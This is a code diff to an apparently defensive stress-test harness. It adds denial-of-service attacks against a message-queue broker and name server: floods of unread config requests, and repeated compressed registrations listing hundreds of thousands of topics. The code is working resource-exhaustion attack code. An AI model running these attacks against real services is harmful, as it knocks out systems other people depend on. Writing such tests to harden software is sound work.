@@ -24,6 +24,7 @@ QUEUES = 4
 PAUSE_S = 0.05  # before a connection is opened again
 READ_BYTES = 1 << 20
 LONG = "L" * 100
+STOPPED = "settings-then-stop"  # the attack during which the node is asked to end
 
 
 @dataclass(frozen=True)
@@ -86,6 +87,40 @@ async def config(node: Node) -> None:
     """Requests of 86 bytes for all settings, hundreds in one packet."""
     asks = itertools.repeat(request(26, {}))
     await many(2, lambda _: pipelined(node.broker_port, asks, at_once=150))
+
+
+async def config_unread(node: Node) -> None:
+    """The same, tens of thousands of them, and nobody reads the answers."""
+    asks = itertools.repeat(request(26, {}))
+    await many(4, lambda _: pipelined(node.broker_port, asks, at_once=10_000, read=False))
+
+
+async def registration(node: Node) -> None:
+    """A broker of 600,000 topics in 2 MB, then one of as many as are taken, again and again."""
+    bodies = [registered(600_000), registered(100_000)]
+
+    def asks() -> Iterator[bytes]:
+        for number in itertools.count():
+            ext = {"brokerName": "attack", "brokerAddr": f"10.0.0.{number % 2}:1"}
+            ext |= {"clusterName": "attack", "haServerAddr": "10.0.0.1:2", "brokerId": "0"}
+            body = bodies[number % 2]
+            yield request(103, ext | {"compressed": "true", "bodyCrc32": str(crc(body))}, body)
+
+    await pipelined(node.namesrv_port, asks(), at_once=1)
+
+
+def registered(count: int) -> bytes:
+    """The compressed body of a registration with this many topics."""
+    version = b'{"timestamp":1,"counter":1}'
+    lines = [b"%x 1 1 6 SINGLE_TAG" % number for number in range(count)]
+    parts = [version, *lines, b"[]"]
+    sized = [struct.pack(">i", len(part)) + part for part in parts]
+    sized.insert(1, struct.pack(">i", count))
+    return zlib.compress(b"".join(sized), 9)
+
+
+def crc(body: bytes) -> int:
+    return zlib.crc32(body) & 0x7FFFFFFF
 
 
 async def headers(node: Node) -> None:
@@ -269,6 +304,8 @@ async def unread(node: Node) -> None:
 
 ATTACKS: dict[str, Attack] = {
     "settings-pipelined": config,
+    STOPPED: config_unread,
+    "registration": registration,
     "header-bomb": headers,
     "dialect-bomb": dialect,
     "topic-flood": topics,
